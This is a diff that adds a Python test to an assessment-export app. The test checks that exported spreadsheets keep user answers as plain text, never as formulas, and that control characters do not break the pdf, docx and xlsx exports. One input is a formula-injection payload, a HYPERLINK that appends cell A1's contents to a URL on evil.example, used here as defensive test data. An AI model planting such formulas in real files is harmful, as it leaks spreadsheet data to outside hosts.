@@ -160,3 +160,34 @@ def test_an_export_of_an_undecided_assessment_says_draft_on_every_page_in_every_
     jsonschema.validate(data, SCHEMA)
     assert data["draft"] is True and data["decisions_final"] is False
     assert record.draft
+
+
+def test_a_users_text_never_becomes_a_formula_and_control_characters_do_not_break_a_file(cast: Any) -> None:
+    from assessments.domain.records import AnswerRecord
+    from assessments.exports.record import ExportStatus
+    from integrations.runtime import run_sync
+    from integrations.table import get_table
+    from tests.web.helpers import answer, create_assessment
+
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    assessment_id = create_assessment(cast, title="=1+1 Vendor portal")
+    answer(cast, assessment_id, "Q-01", formula)
+    # A control character the form would not let through, in an answer stored before it did.
+    pasted = AnswerRecord(
+        "Q-02", "Acme\x0b Ltd.\x01", "manual", "requestor", "2026-03-01T00:00:00.000000Z", 1
+    )
+    run_sync(get_table().put, pasted.to_item(assessment_id))
+
+    records = {f: exported(cast, assessment_id, f) for f in ("pdf", "docx", "xlsx", "json")}
+
+    assert {r.status for r in records.values()} == {ExportStatus.READY}, {
+        f: r.error for f, r in records.items()
+    }
+    book = load_workbook(io.BytesIO(stored_bytes(records["xlsx"])))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert formula in [c.value for c in cells]
+    assert "=1+1 Vendor portal" in [c.value for c in cells]
+    assert "Acme Ltd." in _docx_text(Document(io.BytesIO(stored_bytes(records["docx"]))))
+    pdf = PdfReader(io.BytesIO(stored_bytes(records["pdf"])))
+    assert "Acme Ltd." in "\n".join(page.extract_text() for page in pdf.pages)
